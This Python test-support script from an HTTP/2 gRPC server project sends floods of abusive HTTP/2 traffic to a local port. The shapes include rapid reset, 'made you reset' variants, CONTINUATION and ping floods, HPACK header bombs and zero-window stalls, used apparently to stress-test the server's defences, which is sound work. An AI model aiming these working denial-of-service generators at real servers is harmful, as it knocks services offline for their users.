"""Peers that attack over HTTP/2, three connections at a time, without reading, until they are killed.

Usage: python tests/support/http2/attackers.py PORT SHAPE
"""

import contextlib
import itertools
import socket
import sys
import threading

from hpack import Encoder

from mods_grpc.transport.http2 import frames
from mods_grpc.transport.http2.hpack import encode
from tests.support.http2.wire import HELLO, REQUEST, data, headers, settings

ECHO = tuple((name, b"/test.Test/Echo" if name == b":path" else value) for name, value in REQUEST)
BLOCK = encode(ECHO)
STREAM = encode([(name, b"/test.Test/All" if name == b":path" else value) for name, value in REQUEST])
ATTACKERS = 3


def numbered(make):
    return (make(number) for number in range(1, 2**31, 2))


def opened(number, *, end=False):
    return headers(number, BLOCK, end=end)


def bombs():
    yield headers(1, Encoder().encode([*ECHO, (b"bomb", b"x" * 3_900)]), end=True)
    yield from numbered(lambda number: headers(number + 2, BLOCK + b"\xbe" * 4, end=True) + frames.reset(number + 2, 8))


def continuations():
    yield headers(1, BLOCK, complete=False)
    yield from itertools.repeat(frames.frame(frames.CONTINUATION, 0, 1, b"\0\1a\1b" * 10))


def endless(block, parts):
    """Open streams one after another, each filled until its window ends it."""
    for number in range(1, 2**31, 2):
        yield headers(number, block)
        yield from (frames.frame(frames.DATA, 0, number, part[frames.HEADER_BYTES :]) for part in parts * 5)


def crumbs():
    yield settings(initial_window=0)
    yield from (
        opened(number) + data(number, b"\0" + (5_000).to_bytes(4) + bytes(5_000), end=True) for number in range(1, 200, 2)
    )
    yield from itertools.cycle([frames.window_update(number, 1) for number in range(1, 200, 2)])


ATTACKS = {
    "rapid reset": lambda: numbered(lambda number: opened(number) + frames.reset(number, 8)),
    "made you reset by windows": lambda: numbered(lambda number: opened(number) + frames.window_update(number, 2**31 - 1)),
    "made you reset by states": lambda: numbered(lambda number: opened(number, end=True) + data(number, b"more")),
    "made you reset by priorities": lambda: numbered(
        lambda number: opened(number) + frames.frame(frames.PRIORITY, 0, number, b"")
    ),
    "continuations": continuations,
    "pings": lambda: itertools.repeat(frames.ping(bytes(8), ack=False)),
    "settings": lambda: (settings(initial_window=size) for size in itertools.count()),
    "priorities": lambda: numbered(lambda number: frames.frame(frames.PRIORITY, 0, number, b"\0\0\0\0\1")),
    "empty data": lambda: itertools.chain([opened(1)], itertools.repeat(data(1))),
    "empty requests": lambda: numbered(lambda number: opened(number, end=True)),
    "too many streams": lambda: numbered(opened),
    "bombs": bombs,
    "crumbs": crumbs,
    "large frames": lambda: itertools.chain([opened(1)], itertools.repeat(data(1, bytes(16_384)))),
    "an endless request": lambda: endless(BLOCK, [data(1, b"\0\0\x0f\x42\x40" + bytes(16_000))]),
    "an endless stream": lambda: endless(STREAM, [data(1, b"\0\0\0\0\3abc" * 1_000)]),
    "streams of crumbs": lambda: endless(STREAM, [data(1, bytes([byte])) for byte in b"\0\0\0\0\3abc"]),
    "another protocol": lambda: itertools.repeat(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 10),
}


def attack(port, shape):
    """Send an attack, and reconnect when the connection ends."""
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.2) as sock:
            sock.sendall(HELLO if shape != "another protocol" else b"")
            parts = ATTACKS[shape]()
            while True:
                sock.sendall(b"".join(itertools.islice(parts, 100)))


if __name__ == "__main__":
    for _ in range(ATTACKERS):
        threading.Thread(target=attack, args=(int(sys.argv[1]), sys.argv[2])).start()
    print("attacking", flush=True)
